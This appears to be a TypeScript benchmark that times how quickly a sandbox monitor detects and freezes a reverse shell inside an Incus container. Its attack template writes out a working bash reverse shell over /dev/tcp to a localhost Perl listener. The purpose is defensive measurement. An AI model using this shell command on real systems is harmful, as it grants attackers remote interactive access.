import { readFile } from 'node:fs/promises';
import { setTimeout as sleep } from 'node:timers/promises';
import { until } from '../lab/until.ts';
import { percentile, progress, report } from './report.ts';
import { Stage } from './stage.ts';

const runs = 200;
const name = 'detect';
const instance = `coi-${name}`;

/**
 * What an attacker leaves: a loop that writes down the time for as long as it may, and beside it a shell whose input and output
 * are a connection. When the shell was started stands in `/tmp/began`. It comes as input, and in files: as words of a command
 * it would be recognised before it began.
 */
const attack = (port: number) => `
rm -f /tmp/tick /tmp/tock /tmp/began
cat >/tmp/ticks <<'END'
while :; do echo $EPOCHREALTIME >/tmp/tick; echo $EPOCHREALTIME >/tmp/tock; done
END
cat >/tmp/reverse <<'END'
exec 5<>/dev/tcp/127.0.0.1/${port}
echo $EPOCHREALTIME >/tmp/began
exec bash -i <&5 >&5 2>&5
END
setsid bash /tmp/ticks >/dev/null 2>&1 </dev/null &
sleep 0.3
setsid bash /tmp/reverse >/dev/null 2>&1 </dev/null &
`;

/** Takes connections and keeps them. */
const listener = (port: number) =>
  `setsid perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalPort => ${port}, Listen => 50) or die; push @c, $_ while $_ = $s->accept' >/dev/null 2>&1 </dev/null &`;

/**
 * From the start of a reverse shell to its detection, as the audit log has it, and to the last thing that happened inside. A
 * critical detection freezes first: ending is left out, so that the same sandbox can be used again.
 */
export async function detect(): Promise<void> {
  await using stage = await Stage.open({ images: ['system'] });
  const keys = 'image = "system"\nmonitoring = { auto_kill_on_critical = false }';
  await stage.drop(name, keys);
  await stage.settled([name]);
  const state = JSON.parse(await stage.lab.incus('query', `/1.0/instances/${instance}/state`)) as { pid: number };
  const timeIn = async (file: string) => Number(await readFile(`/proc/${state.pid}/root/tmp/${file}`, 'utf8')) * 1_000;
  await stage.lab.incus('exec', instance, '--', 'bash', '-c', listener(7777));
  await until('its sensor', () => tracesExecs(stage), { timeoutMs: 60_000, everyMs: 200 });
  const [detected, stopped]: [number[], number[]] = [[], []];
  for (let run = 0; run < runs; run += 1) {
    await sleep(50 + 200 * Math.random());
    const since = Date.now();
    // It may be frozen before it has ended: how it ends says nothing.
    const attacked = stage.lab.run(['incus', 'exec', instance, '--', 'bash'], { input: attack(7777) });
    const at = await until('its quarantine', () => quarantinedAt(stage, since), { timeoutMs: 20_000, everyMs: 20 });
    const began = await timeIn('began');
    detected.push(at - began);
    // One of them may be empty: it was to be written just then.
    stopped.push(Math.max(await timeIn('tick'), await timeIn('tock')) - began);
    await until('the freeze', async () => (await statusOf(stage)) === 'Frozen', { timeoutMs: 20_000 });
    // Else what goes on then is held anew.
    await stage.lab.run(['pkill', '-KILL', '--ns', String(state.pid), '--nslist', 'pid', '-x', 'bash']);
    await stage.api.resume({ names: [name] });
    await until('it to go on', async () => (await statusOf(stage)) === 'Running', { timeoutMs: 20_000 });
    await attacked;
    if (run % 20 === 19) progress(`${run + 1} of ${runs}`);
  }
  const details = (times: readonly number[]) => ({ runs, p50Ms: Math.round(percentile(times, 50)) });
  const unit = { unit: 'ms', better: 'lower' } as const;
  report({ ...unit, name: 'detect.seen', value: percentile(detected, 99), limit: 100 }, details(detected));
  report({ ...unit, name: 'detect.stopped', value: percentile(stopped, 99), limit: 500 }, details(stopped));
}

/** When a rule had the sandbox held, milliseconds since 1970. */
async function quarantinedAt({ api }: Stage, since: number): Promise<number | undefined> {
  const { signal } = new AbortController();
  for await (const record of api.events({ name, since, signal })) {
    if (record['kind'] === 'quarantine') return Date.parse(String(record['ts']));
  }
  return undefined;
}

/** Whether each program that is started is seen by now. */
async function tracesExecs({ api }: Stage): Promise<boolean> {
  const { sensors } = await api.monitor({ name });
  return sensors.some(
    ({ sensor, source, state }) => sensor === 'process' && source === 'bpftrace' && state === 'active',
  );
}

async function statusOf({ lab }: Stage): Promise<string> {
  return (JSON.parse(await lab.incus('query', `/1.0/instances/${instance}`)) as { status: string }).status;
}
